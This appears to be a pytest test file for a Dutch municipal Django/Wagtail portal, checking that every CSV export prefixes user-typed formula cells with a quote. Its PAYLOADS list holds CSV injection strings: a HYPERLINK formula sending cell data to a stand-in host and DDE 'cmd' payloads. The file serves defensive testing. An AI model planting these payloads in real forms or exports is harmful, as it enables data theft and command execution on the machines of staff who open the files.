"""CSV formula injection: whatever residents type into a public form (or editors into a title)
reaches every CSV the portal writes as text a spreadsheet shows, never as a formula it runs
(``security/csvsafe.py``)."""

import csv
import io
import re
from datetime import timedelta

from django.urls import get_resolver, resolve, reverse
from django.utils import timezone

import pytest

from agenda.factories import ActionPointPageFactory
from agenda.models import Interest, SignUp
from events.models import EventIndexPage, EventPage, Registration
from home.models import FormField, FormPage
from security.csvsafe import SafeSpreadsheetExportMixin, export_views, safe_cell
from subscriptions.models import Subscriber

pytestmark = pytest.mark.django_db

#: What a resident might type, and what the CSV must hold instead.
PAYLOADS = {
    '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")': (
        '\'=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")'
    ),
    "+31 6 12345678": "'+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
FORMULA = '=HYPERLINK("https://kwaad.example","Klik")'
SAFE_FORMULA = "'" + FORMULA


@pytest.mark.parametrize(("typed", "written"), PAYLOADS.items())
def test_a_cell_that_would_run_gets_a_quote(typed, written):
    assert safe_cell(typed) == written


@pytest.mark.parametrize("value", ["Jan de Vries", "jan@example.nl", "", None, 12, "1 = 1", "'="])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells_of(response):
    return [cell for row in rows_of(response) for cell in row]


@pytest.fixture
def event(beesd):
    start = timezone.now() + timedelta(days=3)
    event = EventPage(
        title="Burendag",
        slug="burendag",
        start=start,
        end=start + timedelta(hours=2),
        location="Dorpshuis",
    )
    EventIndexPage.objects.child_of(beesd).get().add_child(instance=event)
    return event


@pytest.fixture
def point(beesd):
    return ActionPointPageFactory(
        kern=beesd,
        title=FORMULA,
        slug="formule",
        summary="Een titel die met = begint.",
    )


def test_the_registrations_export_shows_a_formula_as_text(admin_client, event):
    Registration.objects.create(event=event, name=FORMULA, email="jan@example.nl")

    response = admin_client.get("/admin/registrations/", {"export": "csv"})

    assert response.status_code == 200
    cells = cells_of(response)
    assert SAFE_FORMULA in cells
    assert FORMULA not in cells


def test_the_sign_ups_and_joint_purchase_exports_show_a_formula_as_text(admin_client, beesd, point):
    SignUp.objects.create(
        action_point=point, name=FORMULA, email="a@example.nl", contribution="@SUM(1+1)"
    )
    Interest.objects.create(action_point=point, kind="inwoner", name="+31 6", email="b@x.nl")

    sign_ups = cells_of(admin_client.get(reverse("aanmeldingen:index"), {"export": "csv"}))
    interests = cells_of(admin_client.get(reverse("gezamenlijke-inkoop:index"), {"export": "csv"}))

    assert {SAFE_FORMULA, "'@SUM(1+1)", "'" + FORMULA} <= set(sign_ups)  # name, text, point
    assert FORMULA not in sign_ups and "@SUM(1+1)" not in sign_ups
    assert "'+31 6" in interests and "+31 6" not in interests


def test_the_form_submissions_export_shows_a_formula_as_text(admin_client, municipality):
    page = FormPage(title="Klankbordgroep", slug="klankbordgroep")
    page.form_fields.add(FormField(sort_order=0, label="=Naam", field_type="singleline"))
    page.form_fields.add(FormField(sort_order=1, label="Opmerking", field_type="multiline"))
    municipality.add_child(instance=page)
    page.save_revision().publish()
    page.get_submission_class().objects.create(
        page=page, form_data={"naam": FORMULA, "opmerking": "-1+1"}
    )

    response = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": "csv"}
    )

    assert response.status_code == 200
    heading, row = rows_of(response)
    assert "'=Naam" in heading  # a label staff gave the field, made safe too
    assert SAFE_FORMULA in row and "'-1+1" in row
    assert FORMULA not in row


def test_the_subscribers_per_kern_export_shows_a_formula_as_text(admin_client, make_kern):
    kern = make_kern("=Kern")
    subscriber = Subscriber.objects.create(
        email="jan@example.nl", confirmed_at=timezone.now(), digest_until=timezone.now()
    )
    subscriber.kernen.add(kern)

    response = admin_client.get(reverse("subscriptions_per_kern"), {"export": "csv"})

    assert ["'=Kern", "1"] in rows_of(response)


def test_the_open_data_csv_shows_a_formula_as_text(client, point):
    point.save_revision().publish()

    response = client.get("/kernagendas/actiepunten.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert [row["title"] for row in rows] == [SAFE_FORMULA]
    # The JSON open data is not a spreadsheet: it keeps the title as it is.
    assert client.get("/kernagendas/actiepunten.json").json()["action_points"][0]["title"] == (
        FORMULA
    )


def test_the_xlsx_export_holds_no_formula(admin_client, event):
    """Wagtail writes anything openpyxl takes for a formula as a string already."""
    from openpyxl import load_workbook

    Registration.objects.create(event=event, name=FORMULA, email="jan@example.nl")

    response = admin_client.get("/admin/registrations/", {"export": "xlsx"})

    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_every_csv_export_of_the_admin_goes_through_the_helper():
    """Ours and Wagtail's own (the search terms the public typed, site history, locked and
    aging pages, workflows, redirects): a new export is covered without a change, and this
    fails if a Wagtail upgrade moves one out of reach."""
    routes = {route for route, _view, _kwargs in export_views(get_resolver().url_patterns)}
    assert {
        "admin/registrations/",
        "admin/aanmeldingen/",
        "admin/gezamenlijke-inkoop/",
        "admin/reports/aanmeldingen-per-kern/",
        "admin/searchpicks/reports/search-terms/",
        "admin/reports/site-history/",
    } <= routes
    for route in routes:
        served_by = resolve("/" + re.sub(r"<(\w+:)?\w+>", "1", route)).func.view_class
        assert issubclass(served_by, SafeSpreadsheetExportMixin), route
    assert issubclass(FormPage().get_submissions_list_view_class(), SafeSpreadsheetExportMixin)


def test_the_search_terms_the_public_typed_export_as_text(admin_client, municipality):
    from wagtail.contrib.search_promotions.models import Query

    Query.get(FORMULA).add_hit()

    response = admin_client.get(reverse("wagtailsearchpromotions:search_terms"), {"export": "csv"})

    cells = cells_of(response)
    assert SAFE_FORMULA.lower() in cells  # Wagtail stores queries in lower case
    assert FORMULA.lower() not in cells
